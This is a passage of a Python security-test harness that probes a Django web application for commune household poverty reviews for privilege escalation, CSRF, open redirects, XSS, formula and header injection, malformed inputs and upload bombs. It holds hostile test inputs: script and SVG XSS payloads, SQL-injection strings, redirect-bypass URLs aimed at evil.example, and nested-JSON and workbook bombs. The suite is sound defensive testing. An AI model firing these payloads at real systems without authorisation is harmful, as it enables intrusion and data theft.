                    f"no row of household {outside['code']}",
                    f"{response.status_code}, {'LEAKED' if leaked else 'not listed'}",
                    ok,
                    "medium",
                    evidence=describe(response),
                )

    # 3. escalation -----------------------------------------------------------------------------------------

    def escalation(self):
        w = self.world
        e = w["escalation"]
        viewer = self.client("viewer")
        household = e["viewer_household"]
        # A viewer replays an officer's household form.
        officer_form = self.officer_form(household["pk"])
        if officer_form:
            fields = [list(f) for f in officer_form]
            set_field(fields, "address", "viewer was here")
            self.expect_status(
                "escalation",
                viewer,
                "POST",
                f"/households/{household['pk']}/edit/",
                {403},
                "high",
                data=fields,
                sent=f"viewer POST household edit /households/{household['pk']}/edit/",
            )
        self.expect_status(
            "escalation",
            viewer,
            "POST",
            "/households/new/",
            {403},
            "high",
            data={"code": "VIEWER-1"},
            sent="viewer POST /households/new/",
        )
        self.expect_status(
            "escalation",
            viewer,
            "POST",
            "/households/import/",
            {403},
            "high",
            files={"file": ("a.xlsx", b"PK\x03\x04")},
            data={"commune": str(e["viewer_commune"])},
            sent="viewer POST /households/import/ (upload)",
        )
        self.expect_status(
            "escalation",
            viewer,
            "POST",
            f"/reviews/rounds/{e['viewer_round']}/steps/submit/",
            {403, 404},
            "high",
            data={"submit-everything": "on"},
            sent="viewer POST a workflow step (submit) on a round of its area",
        )
        self.expect_status(
            "escalation",
            viewer,
            "POST",
            "/residents/?year=2025",
            {403},
            "high",
            data={},
            sent="viewer POST resident counts",
        )
        self.expect_status(
            "escalation",
            self.api("api"),
            "POST",
            "/api/v1/imports/",
            {403},
            "high",
            files={"file": ("a.xlsx", b"PK\x03\x04")},
            data={"commune": str(e["viewer_commune"])},
            sent="API client (read-only role) POST /api/v1/imports/",
        )
        # A commune officer opens a round in another commune.
        officer = self.client("commune_now")
        before = e["rounds_in_other_commune"]
        response = officer.post("/reviews/", {"commune": str(e["other_commune"]), "year": "2026", "kind": "annual"})
        opened = response.status_code == 302
        self.add(
            "escalation",
            f"commune officer POST /reviews/ commune={e['other_commune']} (another commune)",
            "form error (not a choice), no round opened",
            f"{response.status_code}" + (f" → {response.headers.get('Location')}" if opened else ""),
            not opened and response.status_code < 500,
            "high",
            evidence=describe(response),
        )
        self.post_checks.append(
            (
                "rounds_in_other_commune",
                before,
                "commune officer POST /reviews/ for another commune: rounds there unchanged",
            )
        )
        # A commune officer takes the chair's step.
        self.expect_status(
            "escalation",
            officer,
            "POST",
            f"/reviews/rounds/{e['own_round']}/steps/approve/",
            {403},
            "high",
            data={
                "approve-everything": "on",
                "approve-decision_number": "1/QĐ",
                "approve-signed_on": datetime.date.today().strftime("%d/%m/%Y"),
            },
            sent="commune officer POST the chair's step (approve) on its own round",
        )
        # An officer of a commune that ended with the reform edits a household of the new commune it reads.
        legacy = self.client("commune")
        target = e["legacy_reads_household"]
        if target:
            fields = self.officer_form(target)
            if fields:
                set_field(fields, "address", "legacy officer was here")
            self.expect_status(
                "escalation",
                legacy,
                "POST",
                f"/households/{target}/edit/",
                {403, 404},
                "medium",
                data=fields or {},
                sent="officer of an ended commune POST edit of a household of the new commune (read-only to them)",
            )
        # A commune officer moves a household to a village outside the area.
        fields = self.officer_form(e["own_household"])
        if fields:
            set_field(fields, "village", str(e["outside_village"]))
            response = officer.post(f"/households/{e['own_household']}/edit/", fields)
            self.add(
                "escalation",
                f"commune officer POST household edit village={e['outside_village']} (outside)",
                "form error, not moved",
                str(response.status_code),
                response.status_code in (200, 403, 404),
                "high",
                evidence=describe(response),
            )
        # Mass assignment: fields the household form does not offer (the commune, the derived groups).
        fields = self.officer_form(e["own_household"])
        if fields:
            fields += [
                ["commune", str(e["other_commune"])],
                ["is_ethnic_minority", "on"],
                ["head_name", "Injected"],
                ["created_by", "1"],
                ["search_text", "injected"],
            ]
            response = officer.post(f"/households/{e['own_household']}/edit/", fields)
            self.add(
                "escalation",
                "commune officer POST household edit with extra fields commune=<another commune>, head_name, "
                "created_by, search_text",
                "saved without them (the after-check reads the household)",
                str(response.status_code),
                response.status_code in (200, 302),
                "high",
                evidence=describe(response),
            )
            self.post_checks.append(
                (
                    "own_household_commune",
                    e["own_household_commune"],
                    "the household's commune unchanged by an extra 'commune' field",
                )
            )
        # A review in one's own round for a household of another area.
        response = officer.post(
            f"/reviews/rounds/{e['own_round']}/new/",
            {"household": str(e["outside_household"]), "income_per_capita": "100000"},
        )
        self.add(
            "escalation",
            f"commune officer POST a review in its own round for household {e['outside_household']} (another area)",
            "form error (not a choice) or 403, no review",
            str(response.status_code),
            response.status_code in (200, 403),
            "high",
            evidence=describe(response),
        )
        # A workflow step on one's own round naming reviews of another round and area.
        meeting = self.client("meeting")
        response = meeting.post(
            f"/reviews/rounds/{self.world['uploads']['meeting_round']}/steps/post/",
            {"post-reviews": str(e["outside_review"]), "post-posted_on": datetime.date.today().strftime("%d/%m/%Y")},
        )
        self.add(
            "escalation",
            f"commune officer POST step 'post' on its own round with review {e['outside_review']} of another area",
            "form error, that review unchanged",
            str(response.status_code),
            response.status_code in (200, 403, 404),
            "high",
            evidence=describe(response),
        )
        self.post_checks.append(
            (
                "outside_review_state",
                e["outside_review_state"],
                "a review of another area keeps its state after a step naming it",
            )
        )
        # Resident counts (the rates' denominator): of a commune the officer only reads, and of one outside.
        legacy = self.client("commune")
        response = legacy.post(
            "/residents/?year=2026",
            {f"households_{e['read_only_commune']}": "7", f"people_{e['read_only_commune']}": "9", "source": "tour"},
        )
        self.add(
            "escalation",
            f"officer of an ended commune POST resident counts of {e['read_only_commune']} (the new commune it reads)",
            "refused (error or 403), counts unchanged",
            str(response.status_code),
            response.status_code in (200, 403),
            "high",
            evidence=describe(response),
        )
        response = officer.post(
            "/residents/?year=2026",
            {f"households_{e['other_commune']}": "7", f"people_{e['other_commune']}": "9", "source": "tour"},
        )
        self.add(
            "escalation",
            f"commune officer POST resident counts of commune {e['other_commune']} (outside its area)",
            "ignored or refused, counts unchanged",
            str(response.status_code),
            response.status_code in (200, 302, 403),
            "high",
            evidence=describe(response),
        )
        self.post_checks.append(
            (
                "resident_counts",
                e["resident_counts"],
                "resident counts of communes the officers may not change are unchanged",
            )
        )
        # The province's carry-over, by a commune officer.
        self.expect_status(
            "escalation",
            officer,
            "POST",
            "/units/carry-over/",
            {403},
            "high",
            data={"commit": "1"},
            sent="commune officer POST /units/carry-over/ (the province's step)",
        )

        # A province officer moves another province's plan into their own (programmes plan_update).
        province = self.client("province")
        plan = e["foreign_plan"]
        if plan is None:
            self.add(
                "escalation",
                "province officer POST plan edit of another province's plan",
                "403",
                "no plan of another province visible to the officer",
                True,
                "high",
                na=True,
            )
        else:
            page = province.get(f"/plans/{plan['pk']}/edit/")
            fields = form_with(page.text, "unit") if page.status_code == 200 else None
            fields = fields or [[k, v] for k, v in plan["fields"].items()]
            set_field(fields, "unit", str(e["own_province"]))
            response = province.post(f"/plans/{plan['pk']}/edit/", fields)
            self.add(
                "escalation",
                f"province officer (Bắc Kạn) POST /plans/{plan['pk']}/edit/ unit=Bắc Kạn (plan of {plan['unit']})",
                "403 (or form error), plan not moved",
                str(response.status_code),
                response.status_code in (403, 200) and response.status_code < 500,
                "high",
                evidence=describe(response),
            )
            self.post_checks.append(("foreign_plan_unit", plan["unit_pk"], "plan of another province keeps its unit"))
            # Each form as the officer would fill it (read from its page, which the officer may open), so that
            # the refusal comes from the permission, not from a form error.
            for label, path, field, values in (
                (
                    "goal create",
                    f"/plans/{plan['pk']}/goals/new/",
                    "description",
                    {
                        "description": "Tour goal",
                        "target_low": "5",
                        "target_high": "",
                        "direction": "below",
                        "unit_of_measure": "%",
                        "year": str(plan["year"]),
                    },
                ),
                (
                    "task create",
                    f"/plans/{plan['pk']}/tasks/new/",
                    "title",
                    {"order": "99", "title": "Taken over", "lead_agency": "Tour", "deadline_text": "2027"},
                ),
                *(
                    [("goal actual", f"/plans/{plan['pk']}/goals/{plan['goal']}/", "actual", {"actual": "99"})]
                    if plan["goal"]
                    else []
                ),
                *(
                    [
                        (
                            "task edit",
                            f"/plans/{plan['pk']}/tasks/{plan['task']}/",
                            "status",
                            {"progress_notes": "taken over"},
                        )
                    ]
                    if plan["task"]
                    else []
                ),
            ):
                page = province.get(path)
                data = filled_form(page.text, field, values) if page.status_code == 200 else None
                self.expect_status(
                    "escalation",
                    province,
                    "POST",
                    path,
                    {403},
                    "high",
                    data=data or values,
                    sent=f"province officer POST {label} (form filled as on its page, GET {page.status_code}) on "
                    f"another province's plan {path}",
                )
            self.post_checks.append(
                (
                    "foreign_plan_goal_actual",
                    plan["goal_actual"],
                    "the goal of another province's plan keeps its actual",
                )
            )
            self.post_checks.append(
                ("foreign_plan_task_notes", plan["task_notes"], "the task of another province's plan keeps its notes")
            )
            self.post_checks.append(("foreign_plan_goals", plan["goals"], "no goal added to another province's plan"))
            self.post_checks.append(("foreign_plan_tasks", plan["tasks"], "no task added to another province's plan"))

    def officer_form(self, household_pk: int) -> list[list[str]] | None:
        """The household form as its own commune officer (or the province) sees it."""
        for role in ("commune_now", "province_all"):
            response = self.client(role).get(f"/households/{household_pk}/edit/")
            if response.status_code == 200:
                return form_with(response.text, "address")
        return None

    # 4. CSRF -----------------------------------------------------------------------------------------------

    def csrf_attacks(self):
        w = self.world
        officer = self.client("commune_now")
        household = w["xss"]["household"]
        fields = self.officer_form(household) or []
        set_field(fields, "address", "csrf was here")
        self.expect_status(
            "csrf",
            officer,
            "POST",
            f"/households/{household}/edit/",
            {403},
            "high",
            data=fields,
            csrf=False,
            sent="signed-in officer POST household edit without a CSRF token",
        )
        # A forged form from another site: the right token (the attacker cannot read it, but say it leaked) is
        # not enough when the Origin is foreign.
        self.expect_status(
            "csrf",
            officer,
            "POST",
            f"/households/{household}/edit/",
            {403},
            "high",
            data=fields,
            headers={"Origin": EVIL, "Referer": EVIL + "/"},
            sent="POST household edit with a valid token but Origin/Referer https://evil.example",
        )
        self.expect_status(
            "csrf",
            officer,
            "POST",
            "/accounts/logout/",
            {403},
            "low",
            csrf=False,
            sent="POST /accounts/logout/ without a token (forced logout)",
        )
        # The API with a session (a browser's cookie) needs the token too.
        self.expect_status(
            "csrf",
            officer,
            "POST",
            "/api/v1/standards/2021-2025/classify/",
            {403},
            "low",
            json_body={"year": 2024, "area": "rural", "income": 1, "deprived": []},
            sent="session (cookie) POST to the API without X-CSRFToken",
        )
        response = officer.request("GET", "/accounts/logout/")
        still = officer.get("/households/")
        self.add(
            "csrf",
            "GET /accounts/logout/ (a link or <img> on another site)",
            "405, still signed in",
            f"{response.status_code}, then /households/ {still.status_code}",
            response.status_code == 405 and still.status_code == 200,
            "low",
            evidence=describe(response),
        )

    # 5. open redirects -------------------------------------------------------------------------------------

    def open_redirects(self):
        targets = [
            EVIL,
            "//evil.example",
            "/\\evil.example",
            "https:evil.example",
            "/%09/evil.example",
            "/\t/evil.example",
            "\\\\evil.example",
            " https://evil.example",
        ]
        user = self.world["users"]["redirect"]
        for target in targets:
            client = Client(self, "redirect", client_ip=user["ip"], user={**user, "password": self.password})
            response = client.login(next_url=target)
            location = response.headers.get("Location", "")
            ok = response.status_code == 302 and is_local(location)
            self.add(
                "redirect",
                f"log in with next={target!r}",
                "302 to a path of this site",
                f"{response.status_code} → {location}",
                ok,
                "medium",
                evidence=describe(response),
            )
        client = self.client("commune_now")
        response = client.get(f"/accounts/login/?next={quote(EVIL)}")
        location = response.headers.get("Location", "")
        self.add(
            "redirect",
            "signed-in GET /accounts/login/?next=https://evil.example",
            "302 to this site",
            f"{response.status_code} → {location}",
            is_local(location),
            "medium",
            evidence=describe(response),
        )
        response = client.post("/i18n/setlang/", {"language": "en", "next": EVIL})
        location = response.headers.get("Location", "")
        self.add(
            "redirect",
            "POST /i18n/setlang/ next=https://evil.example",
            "302 to this site",
            f"{response.status_code} → {location}",
            is_local(location),
            "medium",
            evidence=describe(response),
        )
        response = self.anonymous().request(
            "POST", "/i18n/setlang/", data={"language": "en"}, headers={"Referer": EVIL + "/x"}
        )
        location = response.headers.get("Location", "")
        self.add(
            "redirect",
            "anonymous POST /i18n/setlang/ with Referer https://evil.example (no next)",
            "not redirected to evil.example",
            f"{response.status_code} → {location}",
            "evil.example" not in location,
            "low",
            evidence=describe(response),
        )
        chair = self.client("chair")
        e = self.world["escalation"]
        if e["approvable_round"]:
            response = chair.post(
                f"/reviews/rounds/{e['approvable_round']}/steps/approve/",
                {
                    "approve-everything": "on",
                    "approve-decision_number": f"{secrets.randbelow(900) + 100}/QĐ-TOUR",
                    "approve-signed_on": datetime.date.today().strftime("%d/%m/%Y"),
                    "next": EVIL,
                },
            )
            location = response.headers.get("Location", "")
            if response.status_code == 302:
                self.add(
                    "redirect",
                    "chair POST approve step with next=https://evil.example",
                    "302 to this site",
                    f"302 → {location}",
                    is_local(location),
                    "medium",
                    evidence=describe(response),
                )
            else:
                self.add(
                    "redirect",
                    "chair POST approve step with next=https://evil.example",
                    "302 to this site",
                    f"{response.status_code} (step refused: redirect not reached)",
                    response.status_code < 500,
                    "medium",
                    evidence=describe(response),
                    na=response.status_code < 500,
                )
        logout = self.client("logout_next")
        response = logout.post("/accounts/logout/", {"next": EVIL})
        location = response.headers.get("Location", "")
        self.add(
            "redirect",
            "POST /accounts/logout/ next=https://evil.example",
            "302 to this site",
            f"{response.status_code} → {location}",
            is_local(location),
            "medium",
            evidence=describe(response),
        )

    # 6. stored and reflected XSS, formula injection -------------------------------------------------------

    def xss_and_formulas(self):
        x = self.world["xss"]
        officer = self.client("commune_now")
        fields = self.officer_form(x["household"])
        head_name_field = None
        if fields:
            set_field(fields, "address", XSS_ADDRESS)
            for name, value in fields:
                if name.endswith("-relation") and value == "head":
                    head_name_field = name.replace("-relation", "-full_name")
            if head_name_field:
                set_field(fields, head_name_field, XSS_NAME)
            response = officer.post(f"/households/{x['household']}/edit/", fields)
            stored = response.status_code == 302
            self.add(
                "xss",
                "commune officer saves a household: head's name " + repr(XSS_NAME) + ", address " + repr(XSS_ADDRESS),
                "saved (302) — what matters is the output below",
                str(response.status_code),
                stored,
                "low",
                evidence=describe(response, 1500),
            )
        else:
            self.add("xss", "household edit form", "form found", "no form", False, "low", na=True)
            return
        q = quote(x["code"])
        pages = [
            ("household list (search)", f"/households/?q={q}"),
            ("household page", f"/households/{x['household']}/"),
            ("household form", f"/households/{x['household']}/edit/"),
            ("review page", f"/reviews/{x['review']}/"),
            ("round page", f"/reviews/rounds/{x['round']}/"),
            ("approval queue", "/reviews/queue/"),
            ("list report", f"/reports/lists/?unit={x['commune']}&year={x['year']}"),
            ("browsable API", f"/api/v1/households/?code={q}"),
        ]
        for label, path in pages:
            headers = {"Accept": "text/html"} if path.startswith("/api/") else None
            response = officer.get(path, headers=headers)
            body = response.text
            raw = [p for p in (SCRIPT_RAW, IMG_RAW) if p in body]
            shown = x["code"] in body or "&lt;script&gt;" in body
            ok = response.status_code == 200 and not raw
            self.add(
                "xss",
                f"GET {label} {path} (payload stored above)",
                "200, payload escaped",
                f"{response.status_code}, raw payload: {raw or 'none'}, household shown: {shown}",
                ok,
                "medium",
                evidence=describe(response),
            )
        # Reflected.
        for path in (
            f"/households/?q={quote(SCRIPT_RAW)}",
            f"/reports/lists/?unit={quote(SCRIPT_RAW)}&year=2025",
            f"/dashboard/?standard={quote(SCRIPT_RAW)}",
            f"/units/?on={quote(SCRIPT_RAW)}",
            f"/accounts/login/?next={quote(SCRIPT_RAW)}",
        ):
            response = officer.get(path)
            ok = SCRIPT_RAW not in response.text and response.status_code < 500
            self.add(
                "xss",
                f"reflected: GET {path}",
                "no raw <script>, no 500",
                f"{response.status_code}, raw: {SCRIPT_RAW in response.text}",
                ok,
                "medium",
                evidence=describe(response),
            )
        # Formula injection in every download that lists the household.
        downloads = [
            ("household export CSV", f"/households/export.csv?q={q}", "csv"),
            ("household export XLSX", f"/households/export.xlsx?q={q}", "xlsx"),
            ("round export CSV", f"/reviews/rounds/{x['round']}/export.csv", "csv"),
            ("round export XLSX", f"/reviews/rounds/{x['round']}/export.xlsx", "xlsx"),
            ("list report XLSX", f"/reports/lists/?unit={x['commune']}&year={x['year']}&format=xlsx", "xlsx"),
            ("API list CSV", f"/api/v1/households/?code={q}&format=csv", "csv"),
            ("API list XLSX", f"/api/v1/households/?code={q}&format=xlsx", "xlsx"),
            ("API detail CSV", f"/api/v1/households/{x['household']}/?format=csv", "csv"),
        ]
        for label, path, kind in downloads:
            response = officer.get(path)
            if response.status_code == 302 and "/reports/jobs/" in response.headers.get("Location", ""):
                response = self.follow_job(officer, response.headers["Location"])
            if response is None or response.status_code != 200:
                self.add(
                    "formula",
                    f"GET {label} {path}",
                    "200 with the payload as text",
                    f"{getattr(response, 'status_code', 'none')}",
                    False,
                    "medium",
                    evidence=describe(response) if response is not None else "no answer",
                )
                continue
            problems, cells = [], []
            for needle in ("HYPERLINK", "@SUM"):
                if kind == "csv":
                    found = csv_cells(response.content, needle)
                    cells += found
                    problems += [c for c in found if not c.startswith("'") and c.startswith(("=", "+", "-", "@"))]
                else:
                    found = xlsx_cells(response.content, needle)
                    cells += found
                    problems += [f for f in found if f[1] == "f" or not str(f[2]).startswith("'")]
            if not cells:
                self.add(
                    "formula",
                    f"GET {label} {path}",
                    "payload cells prefixed with '",
                    "payload not in the file",
                    True,
                    "medium",
                    na=True,
                    evidence=describe(response),
                )
                continue
            self.add(
                "formula",
                f"GET {label} {path}",
                "every =/+/-/@ cell prefixed with ' (text, not formula)",
                f"{len(cells)} payload cells, live: {len(problems)}",
                not problems,
                "medium",
                evidence=f"{path}: {problems[:3]}",
            )
        # JSON is not a spreadsheet, but the browsable API page is HTML.
        response = self.api("api").get(f"/api/v1/households/{x['household']}/")
        self.add(
            "xss",
            f"API client GET /api/v1/households/{x['household']}/ (outside its area? no: inside)",
            "200 JSON, Content-Type application/json",
            f"{response.status_code} {response.headers.get('Content-Type')}",
            response.status_code in (200, 404) and "json" in response.headers.get("Content-Type", ""),
            "low",
            evidence=describe(response),
        )

    def follow_job(self, client: Client, location: str, timeout: float = 120) -> requests.Response | None:
        """A long report goes through a job: wait for it and download the file."""
        path = urlsplit(location).path
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            page = client.get(path)
            match = re.search(r'href="(/reports/jobs/\d+/download/)"', page.text)
            if match:
                return client.get(match.group(1))
            time.sleep(2)
        return None

    # 7. Content-Disposition ------------------------------------------------------------------------------

    def content_disposition(self):
        officer = self.client("commune_now")
        household = self.world["quote_household"]
        for code in (QUOTE_CODE, NEWLINE_CODE):
            fields = self.officer_form(household)
            if not fields:
                return
            set_field(fields, "code", code)
            saved = officer.post(f"/households/{household}/edit/", fields)
            if saved.status_code != 302:
                self.add(
                    "download",
                    f"household code {code!r} saved through the form",
                    "refused or saved",
                    f"{saved.status_code}: refused",
                    saved.status_code < 500,
                    "medium",
                    evidence=describe(saved, 600),
                )
                continue
            response = officer.get(f"/households/{household}/escape-request.pdf")
            header = response.headers.get("Content-Disposition", "")
            name, count = disposition_filename(header) if header else (None, 0)
            expected_name = f"de-nghi-thoat-ngheo-{code}.pdf"
            ok = (
                response.status_code == 200
                and count == 1
                and name == expected_name
                and "X-Evil" not in response.headers
            )
            self.add(
                "download",
                f"household code {code!r}, GET /households/{household}/escape-request.pdf",
                "200, one filename parameter, quoted",
                f"{response.status_code}, Content-Disposition: {header!r}",
                ok,
                "medium" if response.status_code >= 500 else "low",
                evidence=describe(response),
            )
            # Put a plain code back, so that later pages do not trip over it.
            fields = self.officer_form(household)
            if fields:
                set_field(fields, "code", f"TOUR-{secrets.token_hex(3)}")
                officer.post(f"/households/{household}/edit/", fields)

    # 8. out-of-range and malformed query strings -------------------------------------------------------------

    def bounds(self):
        b = self.world["bounds"]
        officer = self.client("commune_now")
        api = self.api("api")
        big = "100000000000000000000"
        bad_cursor = base64.b64encode(b"o=-1&r=1&p=" + b"9" * 40).decode()
        pages = [
            "/dashboard/?year=1e30",
            f"/dashboard/?year={big}",
            f"/dashboard/?unit={big}",
            "/dashboard/?standard=x'--",
            "/dashboard/?year=2025&standard=9999-99999",
            f"/reports/circular07/?unit={b['commune']}&year=1e30",
            f"/reports/lists/?unit={big}&year=2025",
            f"/reports/lists/?unit={b['commune']}&year=2025&standard=%00",
            f"/reports/progress/?plan={big}&year=2027",
            f"/households/?commune={big}",
            "/households/?village=-1",
            "/households/?page=-1",
            f"/households/?page={big}",
            "/households/?q=%27%20OR%201%3D1--",
            "/households/?q=%00",
            "/households/?status=%00",
            f"/households/export.csv?commune={big}",
            "/households/export.xlsx?village=1e30",
            f"/reviews/rounds/{b['round']}/?page=-1&state=%00",
            f"/plans/{b['plan']}/?year=1e30",
            f"/plans/{b['plan']}/?year={big}",
            "/residents/?year=1e30",
            "/units/?on=9999-99-99",
            "/units/?on=0001-01-01",
            f"/households/{big}/",
            f"/reviews/{big}/",
            f"/reviews/rounds/{big}/export.csv",
            f"/plans/{b['plan']}/targets-{big}.csv",
            f"/plans/{b['plan']}/targets/{big}/edit/",
            f"/units/{big}/villages/",
            f"/reports/jobs/{big}/",
            f"/households/import/{big}/",
        ]
        for path in pages:
            self.expect_status(
                "bounds",
                officer,
                "GET",
                path,
                {200, 302, 400, 403, 404},
                "medium",
                expected_text="no 500 (200/400/404)",
            )
        api_paths = [
            f"/api/v1/households/?unit={big}",
            f"/api/v1/households/?page_size={big}",
            "/api/v1/households/?page_size=-1",
            "/api/v1/households/?cursor=garbage",
            f"/api/v1/households/?cursor={bad_cursor}",
            "/api/v1/households/?code=%00",
            "/api/v1/reviews/?year=1e30",
            "/api/v1/reviews/?updated_since=9999-99-99T99:99",
            "/api/v1/reviews/?updated_since=0000-01-01",
            f"/api/v1/statistics/?year=1e30&unit={b['commune_code']}",
            f"/api/v1/statistics/?year=2025&unit={b['commune_code']}&group_by=unit,unit,status,ethnicity,group",
            f"/api/v1/statistics/?year=2025&unit={b['commune_code']}&compare=-1",
            "/api/v1/statistics/?year=2025&unit=%00",
            "/api/v1/statistics/?year=2025&unit=' OR 1=1--",
            "/api/v1/units/?date=0000-01-01",
            "/api/v1/units/?parent=' OR 1=1--",
            f"/api/v1/units/?page={big}",
            "/api/v1/units/?page=-1",
            f"/api/v1/households/{big}/",
            f"/api/v1/reviews/{big}/",
            "/api/v1/standards/%00/",
            f"/api/v1/plans/{b['plan']}/progress/?year=1e30",
            f"/api/v1/plans/{b['plan']}/targets/?year={big}",
            f"/api/v1/plans/{big}/",
            f"/api/v1/imports/{big}/",
            "/api/v1/imports/%00/",
        ]
        for path in api_paths:
            self.expect_status(
                "bounds", api, "GET", path, {200, 400, 404}, "medium", expected_text="no 500 (200/400/404)"
            )

    # 9. JSON bodies --------------------------------------------------------------------------------------

    def json_bodies(self):
        api = self.api("api")
        path = "/api/v1/standards/2021-2025/classify/"
        deep = "[" * 5000 + "]" * 5000
        self.expect_status(
            "json",
            api,
            "POST",
            path,
            {400},
            "medium",
            data=deep,
            headers={"Content-Type": "application/json"},
            sent="POST classify with 5,000 nested arrays",
        )
        deep_object = '{"a":' * 5000 + "1" + "}" * 5000
        self.expect_status(
            "json",
            api,
            "POST",
            path,
            {400},
            "medium",
            data=deep_object,
            headers={"Content-Type": "application/json"},
            sent="POST classify with 5,000 nested objects",
        )
        body = json.dumps({"year": 2024, "area": "rural", "income": 1, "deprived": ["x" * 100] * 120_000})
        self.expect_status(
            "json",
            api,
            "POST",
            path,
            {400, 413},
            "medium",
            data=body,
            headers={"Content-Type": "application/json"},
            sent=f"POST classify with a {len(body) / 2**20:.0f} MB JSON body",
        )
        for label, text in (
            ("income 1e400 (infinity)", '{"year": 2024, "area": "rural", "income": 1e400, "deprived": []}'),
            ("income NaN", '{"year": 2024, "area": "rural", "income": NaN, "deprived": []}'),
            ("year 10**30", '{"year": 1000000000000000000000000000000, "area": "rural", "income": 1, "deprived": []}'),
            ("a 5,000-digit number", '{"year": 2024, "area": "rural", "income": ' + "9" * 5000 + ', "deprived": []}'),
            ("deprived a string", '{"year": 2024, "area": "rural", "income": 1, "deprived": "x"}'),
            ("not JSON", "{'year': 2024"),
            ("a list", "[1, 2]"),
        ):
            self.expect_status(
                "json",
                api,
                "POST",
                path,
                {200, 400},
                "medium",
                data=text,
                headers={"Content-Type": "application/json"},
                sent=f"POST classify: {label}",
                expected_text="400 (or 200), no 500",
            )
        self.expect_status(
            "json",
            api,
            "POST",
            "/api/v1/imports/",
            {400, 403, 415},
            "medium",
            data=deep,
            headers={"Content-Type": "application/json"},
            sent="POST deep JSON to /api/v1/imports/",
        )

    # 10. uploads ------------------------------------------------------------------------------------------

    def uploads(self):
        u = self.world["uploads"]
        api = self.api("commune_now")
        commune = str(u["commune"])

        def refused(
            label,
            name,
            content,
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            limit_seconds=60,
        ):
            started = time.monotonic()
            response = api.request(
                "POST", "/api/v1/imports/", data={"commune": commune}, files={"file": (name, content, content_type)}
            )
            seconds = time.monotonic() - started
            ok = response.status_code == 400
            if response.status_code == 201:
                # Taken, and its dry run refused it: the job holds the error, nothing is saved.
                job = response.json()
                ok = job.get("error_count", 0) > 0 and not job.get("commit")
            ok = ok and seconds < limit_seconds
            self.add(
                "upload",
                f"POST /api/v1/imports/ {label} ({len(content):,} bytes)",
                f"400 with a message (or a dry run that failed with one), in < {limit_seconds} s",
                f"{response.status_code} in {seconds:.1f} s: {response.text[:160]}",
                ok,
                "medium",
                evidence=describe(response, 600),
            )

        refused("a text file named .xlsx", "danh-sach.xlsx", b"just some text, not a workbook\n" * 10)
        refused("an HTML page named .xlsx", "danh-sach.xlsx", b"<html><script>alert(1)</script></html>")
        refused("a zip that is no workbook", "danh-sach.xlsx", zip_of({"hello.txt": b"hi"}))
        refused("a .exe", "tool.exe", b"MZ\x90\x00" + b"\x00" * 100, "application/octet-stream")
        bomb = bomb_workbook(900_000)
        refused("workbook bomb: one sheet of 900,000 rows", "bom.xlsx", bomb)
        refused("workbook bomb: cells A1 and XFD100000", "thua.xlsx", sparse_workbook())
        # The page's form too (the officer's browser).
        officer = self.client("commune_now")
        response = officer.post(
            "/households/import/", {"commune": commune}, files={"file": ("bom.xlsx", bomb, "application/octet-stream")}
        )
        ok = response.status_code == 200 and "rows" in response.text
        self.add(
            "upload",
            "POST /households/import/ (page) the 900,000-row workbook",
            "200, the form with the message about the rows, no job",
            f"{response.status_code}, message shown: {'rows' in response.text}",
            ok,
            "medium",
            evidence=describe(response),
        )
        # Meeting minutes: an HTML page, as .html and renamed .pdf.
        round_pk = u["meeting_round"]
        officer = self.client("meeting")
        html = b"<html><body><script>alert(document.cookie)</script></body></html>"
        for name, kind in (
            ("bien-ban.html", "text/html"),
            ("bien-ban.pdf", "application/pdf"),
            ("bien-ban.svg", "image/svg+xml"),
        ):
            content = (
                html if not name.endswith(".svg") else b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
            )
            data = {
                "confirm_meeting-everything": "on",
                "confirm_meeting-village": str(u["meeting_village"]),
                "confirm_meeting-held_on": datetime.date.today().strftime("%d/%m/%Y"),
                "confirm_meeting-attendance": "10",
                "confirm_meeting-agreeing": "9",
            }
            response = officer.post(
                f"/reviews/rounds/{round_pk}/steps/confirm_meeting/",
                data,
                files={"confirm_meeting-minutes": (name, content, kind)},
            )
            refused_it = response.status_code == 200 and "PDF or a photo" in response.text
            self.add(
                "upload",
                f"POST meeting step with minutes {name} ({kind}, an HTML/SVG page)",
                "refused: 'PDF or a photo'",
                f"{response.status_code}, refused: {refused_it}",
                refused_it,
                "medium",
                evidence=describe(response),
            )
        self.post_checks.append(("minutes_files", 0, "no HTML/SVG minutes kept in MEDIA_ROOT"))

    # 11. the citizen-ID oracle -----------------------------------------------------------------------------

    def citizen_id_oracle(self):
        c = self.world["cccd"]
        client = self.api("commune_now")
        template = self.client("commune_now").get("/households/import/template.xlsx").content
        village = c["village_name"]
        foreign = c["foreign"]

        def dry_run(members, codes):
            households = [[code, village, "", "", "", ""] for code in codes]
            content = import_workbook(template, households, members)
            response = client.request(
                "POST", "/api/v1/imports/", data={"commune": str(c["commune"])}, files={"file": ("cccd.xlsx", content)}
            )
            if response.status_code == 201 and response.json().get("status") in ("queued", "running"):
                job = response.json()["id"]
                for _ in range(60):
                    time.sleep(1)
                    response = client.get(f"/api/v1/imports/{job}/")
                    if response.json().get("status") not in ("queued", "running"):
                        break
            return response

        def member(code, person, number=None):
            return [code, "Tour Thử", person["sex"], person["dob"], "head", number or person["national_id"]]

        def id_messages(response):
            if response.status_code not in (200, 201):
                return [f"HTTP {response.status_code}: {response.text[:200]}"]
            return [
                e["message"]
                for e in response.json().get("errors", [])
                if e.get("column") in ("Số CCCD", "Citizen ID (CCCD)", "national_id")
            ]

        # 1: the first answer about an ID of another commune names no commune, person or household.
        person = foreign[0]
        response = dry_run([member("TOUR-C1", person)], ["TOUR-C1"])
        messages = id_messages(response)
        text = " ".join(messages)
        leaks = [w for w in (person["commune"], person["name"], person["household"], person["village"]) if w in text]
        ok = bool(messages) and not leaks and "another commune" in text
        self.add(
            "cccd",
            "import dry run: a member with the citizen ID of a person of another commune",
            "'registered in another commune', no commune/person/household named",
            f"{messages[:1]} leaks: {leaks or 'none'}",
            ok,
            "medium",
            evidence=describe(response, 800),
        )
        # 2: full-width digits are the same ID.
        wide = person["national_id"].translate(str.maketrans("0123456789", "０１２３４５６７８９"))
        response = dry_run([member("TOUR-C2", person, wide)], ["TOUR-C2"])
        messages = id_messages(response)
        text = " ".join(messages)
        ok = any("another commune" in m or "cannot be checked" in m for m in messages)
        self.add(
            "cccd",
            "import dry run: the same ID typed in full-width digits (０１２…)",
            "recognised as the same ID (another commune / cannot be checked)",
            f"{messages[:1]}",
            ok,
            "medium",
            evidence=describe(response, 800),
        )
